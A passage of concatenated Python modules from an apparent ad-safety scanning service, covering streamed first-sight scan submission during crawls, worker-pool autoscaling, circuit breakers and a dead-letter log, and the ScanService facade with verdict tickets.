  :class:`~repro.crawler.parallel.ShardSubmitter` **mid-crawl** (thread
  workers call the service directly; fork workers stream sight messages
  over their result pipe to a parent-side drainer thread), and the
  service's content-hash dedup index collapses cross-shard repeats onto
  one first-submit-wins scan.  The deterministic tape-replay merge then
  assigns global ad ids and *attaches* each record to its already
  running (or finished) sighting.

First-sight semantics and determinism
-------------------------------------

A first-sight scan judges the creative **alone**: the scan payload is
the canonical :func:`~repro.service.service.sighting_record`, a pure
function of the creative's content.  Crawl-context domains (arbitration
chains, publisher domains) are a merge-time/batch refinement — an
online service ships a verdict on the creative the instant it appears,
before any corpus context exists.  Because the payload is content-pure
and scans are hermetic, the verdict cannot depend on which shard's
sighting won the cross-shard race, on worker count, or on submission
order — so an overlapped parallel streamed crawl produces bit-identical
first-sight verdicts (and, via the tape-replay merge, a bit-identical
corpus fingerprint) to a serial streamed crawl.

Backpressure
------------

The service's ingest queue polices submissions in every mode:

* **serial** — ``block`` pauses the crawl loop inside ``corpus.add``
  until the oracle catches up; ``reject`` raises out of the crawl.
* **thread workers** — ``block`` slows only the submitting worker
  thread; ``reject`` raises inside that worker (the supervisor may
  respawn it; a respawned shard's re-sights dedup onto existing
  tickets).
* **fork workers** — the child feels backpressure only once its pipe
  buffer fills; on a service-side refusal (``reject``/degraded) the
  parent drainer *sheds* that shard's remaining mid-crawl sights and
  the merge re-sights them instead — overlap degrades, no scan is lost.
"""

from __future__ import annotations

from typing import Optional, Union

from repro.crawler.corpus import AdCorpus, AdRecord, Impression
from repro.crawler.crawler import Crawler, CrawlProgress, CrawlStats
from repro.crawler.parallel import ParallelCrawler
from repro.crawler.schedule import CrawlSchedule
from repro.service.service import ScanService, ScanTicket


class StreamingCorpus(AdCorpus):
    """An ad corpus that attaches first-sight scan tickets as ids are minted.

    Every newly seen creative is adopted into the service's sighting
    index: if a shard already sighted it mid-crawl the existing ticket is
    re-keyed to the fresh ad id, otherwise it is sighted now.  Repeat
    impressions of a known creative dedup as usual and cost nothing.
    """

    def __init__(self, service: ScanService) -> None:
        super().__init__()
        self.service = service
        self.tickets: dict[str, ScanTicket] = {}  # by ad_id

    @classmethod
    def resume(cls, service: ScanService, corpus: AdCorpus) -> "StreamingCorpus":
        """Seed a streaming corpus from a checkpointed crawl's corpus.

        Seeded records are *not* re-sighted — their creatives were
        already submitted (and usually scanned) before the crawl died, so
        a resumed streamed crawl never double-submits already-ticketed
        creatives.  Only creatives first seen after the resume point mint
        tickets here.
        """
        streaming = cls(service)
        streaming.seed_from(corpus)
        return streaming

    def add(self, html: str, impression: Impression,
            sandboxed: bool = False) -> AdRecord:
        first_sight = len(self)
        record = super().add(html, impression, sandboxed=sandboxed)
        if len(self) > first_sight:
            self.tickets[record.ad_id] = self.service.adopt_sighting(record)
        return record


def stream_crawl(
    crawler: Union[Crawler, ParallelCrawler],
    schedule: CrawlSchedule,
    service: ScanService,
    corpus: Optional[StreamingCorpus] = None,
    stats: Optional[CrawlStats] = None,
    start_at: int = 0,
    progress: Optional[CrawlProgress] = None,
) -> tuple[StreamingCorpus, CrawlStats, dict[str, ScanTicket]]:
    """Run ``schedule`` with ads flowing straight into ``service``.

    Returns the corpus, the crawl stats, and one ticket per unique ad
    (keyed by the corpus ad id; verdicts are relabelled to match).

    With a :class:`~repro.crawler.parallel.ParallelCrawler` the pipeline
    is truly overlapped: shard workers submit first-sight creatives
    mid-crawl through per-worker submitters and the service deduplicates
    cross-shard sightings by content hash, so a creative seen by two
    shards is scanned exactly once.  The deterministic merge still
    replays every ``corpus.add`` in schedule order, so ad ids, the
    corpus fingerprint, and the first-sight verdicts behind the tickets
    are bit-identical to a serial streamed crawl at any worker count.

    ``corpus`` (a :class:`StreamingCorpus`, e.g. from
    :meth:`StreamingCorpus.resume`), ``stats``, ``start_at`` and
    ``progress`` support checkpointed/resumed streamed crawls exactly
    like :meth:`Crawler.crawl`.  See the module docstring for the
    backpressure contract per worker mode.
    """
    if corpus is None:
        corpus = StreamingCorpus(service)
    elif not isinstance(corpus, StreamingCorpus):
        raise TypeError("stream_crawl needs a StreamingCorpus "
                        f"(got {type(corpus).__name__})")
    parallel = isinstance(crawler, ParallelCrawler)
    previous_sight = crawler.sight if parallel else None
    if parallel:
        crawler.sight = service.sight
    service.crawl_started()
    try:
        _, stats = crawler.crawl(schedule, corpus=corpus, stats=stats,
                                 start_at=start_at, progress=progress)
    finally:
        service.crawl_finished()
        if parallel:
            crawler.sight = previous_sight
    return corpus, stats, corpus.tickets
