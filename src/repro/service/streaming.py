"""Crawler → service streaming: classify ads while the crawl runs.

The batch pipeline waits for the whole crawl before the oracle sees a
single ad; a real ad-safety service cannot.  :class:`StreamingCorpus` is
a drop-in :class:`~repro.crawler.corpus.AdCorpus` that submits every
*newly seen* creative to a :class:`~repro.service.service.ScanService`
the moment the crawler records its first impression, so scanning overlaps
crawling.  Repeat impressions of a known creative dedup as usual and
cost nothing.

Note the semantic difference from the batch pass: a first-sight scan
judges the creative with only the impressions observed *so far*, so the
blacklist check sees fewer arbitration-chain domains than an end-of-crawl
scan would.  Verdicts are still deterministic (the scan itself is
hermetic); they are simply verdicts *at first sight*, which is exactly
what an online service ships.
"""

from __future__ import annotations

from typing import Union

from repro.crawler.corpus import AdCorpus, AdRecord, Impression
from repro.crawler.crawler import Crawler, CrawlStats
from repro.crawler.parallel import ParallelCrawler
from repro.crawler.schedule import CrawlSchedule
from repro.service.service import ScanService, ScanTicket


class StreamingCorpus(AdCorpus):
    """An ad corpus that streams first-sight creatives into a service."""

    def __init__(self, service: ScanService) -> None:
        super().__init__()
        self.service = service
        self.tickets: dict[str, ScanTicket] = {}  # by ad_id

    def add(self, html: str, impression: Impression,
            sandboxed: bool = False) -> AdRecord:
        first_sight = len(self)
        record = super().add(html, impression, sandboxed=sandboxed)
        if len(self) > first_sight:
            self.tickets[record.ad_id] = self.service.submit(record)
        return record


def stream_crawl(
    crawler: Union[Crawler, ParallelCrawler],
    schedule: CrawlSchedule,
    service: ScanService,
) -> tuple[StreamingCorpus, CrawlStats, dict[str, ScanTicket]]:
    """Run ``schedule`` with ads flowing straight into ``service``.

    Returns the corpus, the crawl stats, and one ticket per unique ad.
    The service's backpressure applies to the crawler itself: with a
    ``block`` queue the crawl slows to the oracle's pace, with ``reject``
    a full queue raises out of the crawl loop.

    A :class:`~repro.crawler.parallel.ParallelCrawler` works here too —
    its deterministic merge replays every first-sight creative through
    this corpus in schedule order, so the tickets (and the first-sight
    verdicts behind them) are identical to a serial streamed crawl.
    Submission then happens at merge time rather than mid-crawl, trading
    some crawl/scan overlap for the parallel crawl itself; prefer
    ``mode="thread"`` so worker forks never race live service threads.
    """
    corpus = StreamingCorpus(service)
    _, stats = crawler.crawl(schedule, corpus=corpus)
    return corpus, stats, corpus.tickets
