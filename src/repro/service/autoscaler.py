"""Elastic sizing for the oracle worker pool.

The autoscaler closes the loop between the ingest queue and the pool:
it periodically samples two saturation signals —

* **queue depth per worker** (how far behind the pool is), and
* **enqueue-wait p99** (how long producers are actually being stalled
  by backpressure, from the service's ``enqueue_wait`` histogram) —

and converges the pool between ``min_workers`` and ``max_workers``.
Scaling *changes no verdict bit*: hermetic judging makes every verdict a
pure function of ``(seed, world params, creative)``, so worker count
only decides how fast the queue drains.  That is what makes an elastic
pool safe to run under the determinism contract.

Hysteresis invariants (what keeps the loop from thrashing):

* an evaluation never scales up and down at once;
* scale-up requires pressure *now* and its own cooldown since the last
  scale-up;
* scale-down requires ``idle_evals`` consecutive pressure-free
  evaluations AND a cooldown since the last scaling event in *either*
  direction — a burst's tail never triggers an immediate shrink;
* scale-down steps one worker at a time and drains at task boundaries
  (the pool hands out retire tokens; nothing in flight is dropped).

Every decision is recorded on a bounded timeline so benchmarks and the
``serve`` shutdown report can show exactly when and why the pool moved.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.service.metrics import MetricsRegistry
from repro.service.queue import IngestQueue
from repro.service.workers import OracleWorkerPool

#: Scaling decisions kept on the in-memory timeline.
TIMELINE_CAPACITY = 512


@dataclass
class AutoscalerConfig:
    """All the autoscaler's knobs in one place."""

    min_workers: int = 1
    max_workers: int = 4
    #: Seconds between signal evaluations.
    interval: float = 0.02
    #: Queue backlog per worker that counts as pressure (scale-up signal).
    scale_up_depth_per_worker: float = 2.0
    #: Enqueue-wait p99 (seconds) that counts as pressure even when the
    #: depth looks tame (short queue + stalled producers = undersized).
    scale_up_wait_p99: float = 0.05
    #: Workers added per scale-up step.
    scale_up_step: int = 1
    #: Minimum seconds between scale-ups.
    up_cooldown: float = 0.05
    #: Minimum seconds after the last scaling event (either direction)
    #: before a scale-down may fire.
    down_cooldown: float = 0.25
    #: Consecutive pressure-free evaluations required before scaling down.
    idle_evals: int = 5

    def __post_init__(self) -> None:
        if self.min_workers < 1:
            raise ValueError("min_workers must be >= 1")
        if self.max_workers < self.min_workers:
            raise ValueError("max_workers must be >= min_workers")
        if self.interval <= 0:
            raise ValueError("interval must be positive")
        if self.scale_up_step < 1:
            raise ValueError("scale_up_step must be >= 1")
        if self.idle_evals < 1:
            raise ValueError("idle_evals must be >= 1")

    def to_dict(self) -> dict:
        return {
            "min_workers": self.min_workers,
            "max_workers": self.max_workers,
            "interval": self.interval,
            "scale_up_depth_per_worker": self.scale_up_depth_per_worker,
            "scale_up_wait_p99": self.scale_up_wait_p99,
            "scale_up_step": self.scale_up_step,
            "up_cooldown": self.up_cooldown,
            "down_cooldown": self.down_cooldown,
            "idle_evals": self.idle_evals,
        }


@dataclass
class ScaleEvent:
    """One recorded scaling decision."""

    at: float            # seconds since the autoscaler started
    direction: str       # "up" | "down"
    size_from: int
    size_to: int
    reason: str
    queue_depth: int
    wait_p99: float

    def to_dict(self) -> dict:
        return {
            "at": round(self.at, 4),
            "direction": self.direction,
            "from": self.size_from,
            "to": self.size_to,
            "reason": self.reason,
            "queue_depth": self.queue_depth,
            "wait_p99": round(self.wait_p99, 6),
        }


class Autoscaler:
    """Periodic controller converging an :class:`OracleWorkerPool`.

    The control thread is owned by the service lifecycle (``start`` /
    ``stop``); :meth:`evaluate_once` is the whole decision function and
    is callable synchronously, which is how the unit tests drive it with
    a manual clock and hand-built queue states.
    """

    def __init__(self, pool: OracleWorkerPool, queue: IngestQueue,
                 metrics: Optional[MetricsRegistry] = None,
                 config: Optional[AutoscalerConfig] = None,
                 clock: Callable[[], float] = time.monotonic) -> None:
        self.pool = pool
        self.queue = queue
        self.metrics = metrics
        self.config = config or AutoscalerConfig()
        self._clock = clock
        self._started_at: Optional[float] = None
        self._last_up: Optional[float] = None
        self._last_scale: Optional[float] = None
        self._idle_streak = 0
        self._lock = threading.Lock()
        self._timeline: list[ScaleEvent] = []
        self._timeline_dropped = 0
        self.evaluations = 0
        self.scale_ups = 0
        self.scale_downs = 0
        self._stop = threading.Event()
        self._thread: Optional[threading.Thread] = None

    # -- signals -------------------------------------------------------------

    def _wait_p99(self) -> float:
        if self.metrics is None:
            return 0.0
        return self.metrics.histogram("enqueue_wait").p99

    # -- the decision function ----------------------------------------------

    def evaluate_once(self) -> Optional[ScaleEvent]:
        """Sample the signals and make at most one scaling move."""
        now = self._clock()
        if self._started_at is None:
            self._started_at = now
        cfg = self.config
        self.evaluations += 1
        size = self.pool.size
        depth = self.queue.depth
        wait_p99 = self._wait_p99()

        depth_pressure = depth >= cfg.scale_up_depth_per_worker * size
        wait_pressure = wait_p99 >= cfg.scale_up_wait_p99 > 0
        pressure = depth_pressure or wait_pressure

        if pressure and size < cfg.max_workers:
            self._idle_streak = 0
            if (self._last_up is not None
                    and now - self._last_up < cfg.up_cooldown):
                return None
            target = min(cfg.max_workers, size + cfg.scale_up_step)
            reason = "depth" if depth_pressure else "wait_p99"
            return self._move(now, size, target, "up", reason,
                              depth, wait_p99)
        if pressure:
            # Saturated at max_workers: nothing to do, but it is not idle.
            self._idle_streak = 0
            return None
        if depth == 0 and size > cfg.min_workers:
            self._idle_streak += 1
            if self._idle_streak < cfg.idle_evals:
                return None
            if (self._last_scale is not None
                    and now - self._last_scale < cfg.down_cooldown):
                return None
            return self._move(now, size, size - 1, "down", "idle",
                              depth, wait_p99)
        self._idle_streak = 0
        return None

    def _move(self, now: float, size: int, target: int, direction: str,
              reason: str, depth: int, wait_p99: float) -> Optional[ScaleEvent]:
        achieved = self.pool.scale_to(target)
        if achieved == size:
            return None
        event = ScaleEvent(at=now - (self._started_at or now),
                           direction=direction, size_from=size,
                           size_to=achieved, reason=reason,
                           queue_depth=depth, wait_p99=wait_p99)
        with self._lock:
            if len(self._timeline) >= TIMELINE_CAPACITY:
                self._timeline.pop(0)
                self._timeline_dropped += 1
            self._timeline.append(event)
        if direction == "up":
            self.scale_ups += 1
            self._last_up = now
        else:
            self.scale_downs += 1
        self._last_scale = now
        self._idle_streak = 0
        if self.metrics is not None:
            self.metrics.gauge("pool_size").set(achieved)
        return event

    # -- lifecycle -----------------------------------------------------------

    def start(self) -> None:
        if self._thread is not None:
            return
        if self.metrics is not None:
            self.metrics.gauge("pool_size").set(self.pool.size)
        self._stop.clear()
        self._thread = threading.Thread(
            target=self._run, name="autoscaler", daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.wait(self.config.interval):
            self.evaluate_once()

    def stop(self, timeout: Optional[float] = None) -> None:
        self._stop.set()
        thread = self._thread
        if thread is not None:
            thread.join(timeout)
            self._thread = None

    # -- introspection -------------------------------------------------------

    def timeline(self) -> list[ScaleEvent]:
        with self._lock:
            return list(self._timeline)

    def stats(self) -> dict:
        with self._lock:
            timeline = [event.to_dict() for event in self._timeline]
            dropped = self._timeline_dropped
        return {
            "size": self.pool.size,
            "peak_size": self.pool.peak_size,
            "min_size": self.pool.min_size,
            "evaluations": self.evaluations,
            "scale_ups": self.scale_ups,
            "scale_downs": self.scale_downs,
            "timeline": timeline,
            "timeline_dropped": dropped,
            "config": self.config.to_dict(),
        }
