"""Per-worker circuit breakers and the dead-letter log.

A scan worker whose oracle stack keeps failing (in the real pipeline: a
wedged Wepawet instance, an analysis VM out of disk, a poisoned sample)
must not keep eating tasks and returning errors.  Each worker gets a
:class:`CircuitBreaker` wrapped around its scan attempts:

* **closed** — normal operation; ``threshold`` consecutive failures trip
  it open;
* **open** — the worker refuses work (tasks are requeued for healthier
  workers) until ``cooldown`` seconds pass;
* **half-open** — after the cooldown one probe task is let through; a
  success closes the breaker, a failure re-opens it for another cooldown.

The clock is injectable so the state machine is unit-testable without
sleeping.  Failures that exhaust a task's attempt budget land in the
:class:`DeadLetterLog` — the service never silently drops a submission.
"""

from __future__ import annotations

import json
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional, Union

from repro.core.persistence import (
    FORMAT_VERSION,
    atomic_writer,
    check_format_version,
)

PathLike = Union[str, Path]

STATE_CLOSED = "closed"
STATE_OPEN = "open"
STATE_HALF_OPEN = "half_open"


class BreakerOpenError(RuntimeError):
    """Raised for a task that could not be routed around an open breaker."""


class CircuitBreaker:
    """Closed → open → half-open failure isolation for one worker.

    Thread-safe; all transitions happen under one lock.  The open →
    half-open transition is lazy — it fires inside :meth:`allow` (or
    :meth:`state`) once the cooldown has elapsed, so no timer thread is
    needed.
    """

    def __init__(self, threshold: int = 3, cooldown: float = 0.2,
                 clock: Callable[[], float] = time.monotonic) -> None:
        if threshold < 1:
            raise ValueError("threshold must be >= 1")
        if cooldown < 0:
            raise ValueError("cooldown must be non-negative")
        self.threshold = threshold
        self.cooldown = cooldown
        self._clock = clock
        self._lock = threading.Lock()
        self._state = STATE_CLOSED
        self._consecutive_failures = 0
        self._opened_at: Optional[float] = None
        self._probing = False
        self.failures_total = 0
        self.successes_total = 0
        self.times_opened = 0

    # -- state machine -------------------------------------------------------

    def _advance(self) -> None:
        """Lazily move open → half-open when the cooldown has elapsed."""
        if self._state == STATE_OPEN and self._opened_at is not None:
            if self._clock() - self._opened_at >= self.cooldown:
                self._state = STATE_HALF_OPEN
                self._probing = False

    @property
    def state(self) -> str:
        with self._lock:
            self._advance()
            return self._state

    def allow(self) -> bool:
        """May this worker take a task right now?

        In half-open state only one probe is admitted at a time; further
        calls are refused until the probe reports back.
        """
        with self._lock:
            self._advance()
            if self._state == STATE_CLOSED:
                return True
            if self._state == STATE_HALF_OPEN and not self._probing:
                self._probing = True
                return True
            return False

    def record_success(self) -> None:
        with self._lock:
            self._advance()
            self.successes_total += 1
            self._consecutive_failures = 0
            self._state = STATE_CLOSED
            self._opened_at = None
            self._probing = False

    def record_failure(self) -> None:
        with self._lock:
            self._advance()
            self.failures_total += 1
            self._consecutive_failures += 1
            if self._state == STATE_HALF_OPEN:
                self._open()
            elif (self._state == STATE_CLOSED
                  and self._consecutive_failures >= self.threshold):
                self._open()

    def _open(self) -> None:
        self._state = STATE_OPEN
        self._opened_at = self._clock()
        self._probing = False
        self.times_opened += 1

    # -- introspection -------------------------------------------------------

    def stats(self) -> dict:
        with self._lock:
            self._advance()
            return {
                "state": self._state,
                "consecutive_failures": self._consecutive_failures,
                "failures_total": self.failures_total,
                "successes_total": self.successes_total,
                "times_opened": self.times_opened,
                "threshold": self.threshold,
                "cooldown": self.cooldown,
            }


@dataclass
class DeadLetter:
    """One permanently failed submission."""

    ad_id: str
    content_hash: str
    attempts: int
    error: str
    recorded_at: float
    #: Gateway tenant the failed scan belonged to (None = direct caller),
    #: so a service operator can see *whose* work is dying.
    tenant: Optional[str] = None


class DeadLetterLog:
    """Bounded, thread-safe record of scans that exhausted every retry."""

    def __init__(self, capacity: int = 1024,
                 clock: Callable[[], float] = time.monotonic) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self._clock = clock
        self._lock = threading.Lock()
        self._letters: list[DeadLetter] = []
        self.recorded_total = 0
        self.dropped = 0

    def record(self, ad_id: str, content_hash: str, attempts: int,
               error: BaseException,
               tenant: Optional[str] = None) -> DeadLetter:
        letter = DeadLetter(ad_id=ad_id, content_hash=content_hash,
                            attempts=attempts,
                            error=f"{type(error).__name__}: {error}",
                            recorded_at=self._clock(),
                            tenant=tenant)
        with self._lock:
            self.recorded_total += 1
            if len(self._letters) >= self.capacity:
                self._letters.pop(0)
                self.dropped += 1
            self._letters.append(letter)
        return letter

    def letters(self) -> list[DeadLetter]:
        with self._lock:
            return list(self._letters)

    def __len__(self) -> int:
        with self._lock:
            return len(self._letters)

    def stats(self) -> dict:
        with self._lock:
            return {
                "size": len(self._letters),
                "capacity": self.capacity,
                "recorded_total": self.recorded_total,
                "dropped": self.dropped,
            }

    # -- persistence ---------------------------------------------------------

    def save(self, path: PathLike) -> int:
        """Write the letters as JSONL, atomically; returns the count.

        Dead letters are the record of work the service *failed* to do —
        exactly the data an operator reads after a bad run — so the save
        must never itself be a casualty of the crash it is documenting.
        The write goes through the same temp-file-then-rename discipline
        as crawl checkpoints.
        """
        with self._lock:
            letters = list(self._letters)
        count = 0
        with atomic_writer(path) as handle:
            for letter in letters:
                row = {"version": FORMAT_VERSION, "kind": "dead_letter"}
                row.update(vars(letter))
                handle.write(json.dumps(row, sort_keys=True))
                handle.write("\n")
                count += 1
        return count

    @classmethod
    def load(cls, path: PathLike, capacity: int = 1024,
             clock: Callable[[], float] = time.monotonic) -> "DeadLetterLog":
        """Reload a log written by :meth:`save` (counters start fresh)."""
        log = cls(capacity=capacity, clock=clock)
        with Path(path).open("r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if not line:
                    continue
                data = json.loads(line)
                check_format_version(data, what="dead letter")
                if data.get("kind") != "dead_letter":
                    raise ValueError(
                        f"{path} is not a dead-letter log "
                        f"(kind={data.get('kind')!r})")
                letter = DeadLetter(
                    ad_id=data["ad_id"],
                    content_hash=data["content_hash"],
                    attempts=data["attempts"],
                    error=data["error"],
                    recorded_at=data["recorded_at"],
                    tenant=data.get("tenant"),
                )
                with log._lock:
                    if len(log._letters) >= log.capacity:
                        log._letters.pop(0)
                    log._letters.append(letter)
        return log
