"""The ``ScanService`` facade: queue → batcher → worker pool → cache.

One object ties the service subsystem together and owns its lifecycle::

    with ScanService(ServiceConfig(seed=2014, n_workers=2)) as svc:
        tickets = [svc.submit(record) for record in corpus.records()]
        svc.drain()
        verdicts = {t.ad_id: t.result() for t in tickets}
        print(svc.stats())

Submissions hit the verdict cache first; misses are coalesced per
creative (two in-flight submissions of the same creative cost one scan),
queued with backpressure, micro-batched, and scanned by the worker pool.
Every stage feeds the metrics registry.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Optional, Union

from repro.core.oracle import AdVerdict
from repro.core.study import StudyConfig
from repro.crawler.corpus import AdCorpus, AdRecord, content_hash
from repro.datasets.world import WorldParams
from repro.service.autoscaler import Autoscaler, AutoscalerConfig
from repro.service.batcher import MicroBatcher
from repro.service.breaker import DeadLetterLog
from repro.service.cache import VerdictCache
from repro.service.metrics import MetricsRegistry
from repro.service.queue import IngestQueue, QueueClosedError, QueueFullError
from repro.adscript.vm import hotpath_stats
from repro.service.workers import OracleWorkerPool, ScanFaultHook, ScanTask
from repro.store import StoreConfig, StoreWriteError, VerdictStore
from repro.util import lru


class ServiceDegradedError(RuntimeError):
    """Every worker breaker is open; only cached verdicts can be served."""


@dataclass
class ServiceConfig:
    """All the service's knobs in one place."""

    seed: int = 2014
    n_workers: int = 2
    queue_capacity: int = 256
    queue_policy: str = "block"
    batch_max_size: int = 8
    batch_max_delay: float = 0.05
    cache_capacity: int = 65536
    cache_ttl: Optional[float] = None
    blacklist_threshold: int = 5
    vt_threshold: int = 4
    world_params: Optional[WorldParams] = None
    #: Attempt budget per submission (1 = no retries).  A failed scan is
    #: requeued — usually onto a different worker — until the budget is
    #: spent, then dead-lettered.
    scan_max_attempts: int = 3
    #: Consecutive failures that trip one worker's circuit breaker; None
    #: disables the breakers (pre-supervision behaviour).
    breaker_threshold: Optional[int] = 3
    #: Seconds an open breaker waits before admitting a half-open probe.
    breaker_cooldown: float = 0.2
    #: Dead-letter log capacity (oldest letters are dropped beyond it).
    dead_letter_capacity: int = 1024
    #: Test/chaos hook: (worker_index, task) → None, raise to simulate a
    #: worker's scan stack failing.
    fault_hook: Optional[ScanFaultHook] = None
    #: Root directory of the persistent verdict store; None runs the
    #: pre-store (memory-cache-only) configuration, bit-identical.
    store_path: Optional[Union[str, Path]] = None
    #: Store knobs (shards, segment size, fsync cadence); None = defaults.
    store_config: Optional[StoreConfig] = None
    #: Elastic pool sizing: a full :class:`AutoscalerConfig`, or the
    #: ``autoscale_min``/``autoscale_max`` shorthand below.  None keeps
    #: the fixed ``n_workers`` pool, bit-identical to the seed.
    autoscaler: Optional[AutoscalerConfig] = None
    autoscale_min: Optional[int] = None
    autoscale_max: Optional[int] = None
    #: How often an idle elastic worker surfaces from the batcher to
    #: check for retirement (seconds).  Only used when autoscaling.
    worker_poll: float = 0.02
    #: Crashed pool workers respawned (in total) before the pool stops
    #: replacing them; 0 = no respawn (the seed behaviour).
    worker_max_restarts: int = 0

    def autoscaler_config(self) -> Optional[AutoscalerConfig]:
        """Resolve the elastic-pool knobs (shorthand or full config)."""
        if self.autoscaler is not None:
            return self.autoscaler
        if self.autoscale_min is None and self.autoscale_max is None:
            return None
        lo = self.autoscale_min if self.autoscale_min is not None else 1
        hi = (self.autoscale_max if self.autoscale_max is not None
              else max(lo, self.n_workers))
        return AutoscalerConfig(min_workers=lo, max_workers=hi)

    def study_config(self) -> StudyConfig:
        """The equivalent batch-pipeline config (for oracle construction)."""
        return StudyConfig(
            seed=self.seed,
            blacklist_threshold=self.blacklist_threshold,
            vt_threshold=self.vt_threshold,
            world_params=self.world_params,
        )


class ScanTicket:
    """A claim on one submission's verdict (a minimal future)."""

    def __init__(self, ad_id: str, content_hash: str,
                 tenant: Optional[str] = None) -> None:
        self.ad_id = ad_id
        self.content_hash = content_hash
        #: Gateway tenant the submission is attributed to (None = direct
        #: caller — the pre-gateway behaviour, bit-identical).
        self.tenant = tenant
        self.from_cache = False
        self._event = threading.Event()
        self._verdict: Optional[AdVerdict] = None
        self._error: Optional[BaseException] = None

    def _resolve(self, verdict: AdVerdict) -> None:
        self._verdict = verdict
        self._event.set()

    def _fail(self, error: BaseException) -> None:
        self._error = error
        self._event.set()

    @property
    def done(self) -> bool:
        return self._event.is_set()

    def result(self, timeout: Optional[float] = None) -> AdVerdict:
        """Block until the verdict is ready (re-raises scan errors)."""
        if not self._event.wait(timeout):
            raise TimeoutError(
                f"verdict for {self.ad_id} not ready after {timeout}s")
        if self._error is not None:
            raise self._error
        assert self._verdict is not None
        return self._verdict


class AttachedTicket(ScanTicket):
    """A sighting's verdict re-keyed to a corpus ad id.

    Mid-crawl sightings are scanned under a canonical content-derived id
    (no merged corpus exists yet to assign a global one); when the
    deterministic merge assigns the creative its ad id, the streaming
    corpus attaches to the sighting through one of these.  Resolution,
    failure and cache provenance all mirror the primary ticket; the
    verdict is relabelled with the adopted ad id on the way out, so the
    bits a caller sees are identical to a serial streamed crawl's.
    """

    def __init__(self, ad_id: str, primary: ScanTicket) -> None:
        # Deliberately no super().__init__: this ticket has no event or
        # verdict of its own — everything delegates to the primary.
        self.ad_id = ad_id
        self.content_hash = primary.content_hash
        self.tenant = primary.tenant
        self._primary = primary

    @property
    def from_cache(self) -> bool:
        return self._primary.from_cache

    @property
    def done(self) -> bool:
        return self._primary.done

    def result(self, timeout: Optional[float] = None) -> AdVerdict:
        verdict = self._primary.result(timeout)
        if verdict.ad_id != self.ad_id:
            verdict = replace(verdict, ad_id=self.ad_id)
        return verdict


def sighting_record(html: str, digest: Optional[str] = None) -> AdRecord:
    """The canonical scan payload for one creative, derived from content only.

    First-sight scans must be a pure function of the creative so that any
    shard's submission — whichever wins the cross-shard race — produces
    the identical verdict.  No impressions are attached (crawl-context
    domains are a merge-time/batch refinement) and the ad id is minted
    from the content hash.
    """
    digest = digest if digest is not None else content_hash(html)
    return AdRecord(
        ad_id=f"sight:{digest[:16]}",
        content_hash=digest,
        html=html,
        first_seen_url="",
        impressions=[],
    )


class _PendingScan:
    """In-flight bookkeeping for one creative (coalesced tickets)."""

    __slots__ = ("tickets",)

    def __init__(self) -> None:
        self.tickets: list[ScanTicket] = []


class _Sighting:
    """Dedup-index entry: the first-submit-wins ticket for one creative."""

    __slots__ = ("ticket", "sighted_at", "latency_observed")

    def __init__(self, ticket: ScanTicket, sighted_at: float) -> None:
        self.ticket = ticket
        self.sighted_at = sighted_at
        self.latency_observed = False


class ScanService:
    """Online advertisement scanning over the combined oracle."""

    def __init__(self, config: Optional[ServiceConfig] = None,
                 cache: Optional[VerdictCache] = None,
                 store: Optional[VerdictStore] = None) -> None:
        self.config = config or ServiceConfig()
        self.metrics = MetricsRegistry()
        self.cache = cache or VerdictCache(
            capacity=self.config.cache_capacity, ttl=self.config.cache_ttl)
        # The persistent tier: an explicit store wins; otherwise one is
        # opened (with full crash recovery) when the config names a path.
        self._owns_store = store is None and self.config.store_path is not None
        if store is None and self.config.store_path is not None:
            store = VerdictStore(self.config.store_path,
                                 config=self.config.store_config)
        self.store = store
        self.queue = IngestQueue(
            capacity=self.config.queue_capacity,
            policy=self.config.queue_policy,
            wait_observer=self.metrics.histogram("enqueue_wait").observe)
        self.batcher = MicroBatcher(self.queue,
                                    max_size=self.config.batch_max_size,
                                    max_delay=self.config.batch_max_delay)
        self.dead_letters = DeadLetterLog(
            capacity=self.config.dead_letter_capacity)
        scaling = self.config.autoscaler_config()
        if scaling is not None:
            # Elastic pool: start at the floor and let the autoscaler
            # climb; workers poll the batcher with a timeout so idle ones
            # notice retirement instead of blocking in the queue forever.
            initial_workers = scaling.min_workers
            poll = self.config.worker_poll
            next_batch = lambda: self.batcher.next_batch(timeout=poll)  # noqa: E731
            max_workers = scaling.max_workers
        else:
            initial_workers = self.config.n_workers
            next_batch = self.batcher.next_batch
            max_workers = None
        self.pool = OracleWorkerPool(
            initial_workers, self.config.study_config(),
            next_batch=next_batch,
            on_result=self._on_result,
            on_batch=self._on_batch,
            breaker_threshold=self.config.breaker_threshold,
            breaker_cooldown=self.config.breaker_cooldown,
            requeue=self.queue.requeue,
            max_attempts=self.config.scan_max_attempts,
            fault_hook=self.config.fault_hook,
            on_retry=self._on_retry,
            max_workers=max_workers,
            max_restarts=self.config.worker_max_restarts,
        )
        self.autoscaler: Optional[Autoscaler] = None
        if scaling is not None:
            self.autoscaler = Autoscaler(self.pool, self.queue,
                                         metrics=self.metrics, config=scaling)
        # Pre-register the standard metrics so stats() has stable keys
        # even before the first submission/scan touches them.
        for name in ("submitted", "cache_hits", "cache_misses", "coalesced",
                     "scanned", "scan_errors", "rejected", "scan_retries",
                     "dead_lettered", "degraded_rejections",
                     "first_sight_submissions", "shard_dedup_hits",
                     "overlapped_scans", "store_hits", "store_misses",
                     "store_write_errors"):
            self.metrics.counter(name)
        self.metrics.gauge("queue_depth")
        self.metrics.gauge("active_crawls")
        self.metrics.histogram("batch_size")
        self.metrics.histogram("scan_latency")
        self.metrics.histogram("first_sight_latency")
        # Compile caches (repro.util.lru) are process-wide; mirror their
        # totals into this service's counters as deltas observed since the
        # service was constructed.
        self._compile_cache_baseline: dict[tuple[str, str], int] = {}
        for name, stats in lru.cache_stats().items():
            for kind in ("hits", "misses"):
                self._compile_cache_baseline[(name, kind)] = stats[kind]
        # VM hot-path counters (superinstructions, inline caches) are
        # process-wide too; same delta treatment.
        self._vm_hotpath_baseline = dict(hotpath_stats())
        self._pending: dict[str, _PendingScan] = {}
        # Cross-shard first-sight dedup: content hash -> the winning
        # sighting.  First submit wins; every later sighting of the same
        # creative (other shards, repeat chunks) attaches to it.
        self._sightings: dict[str, _Sighting] = {}
        self._state_lock = threading.Lock()
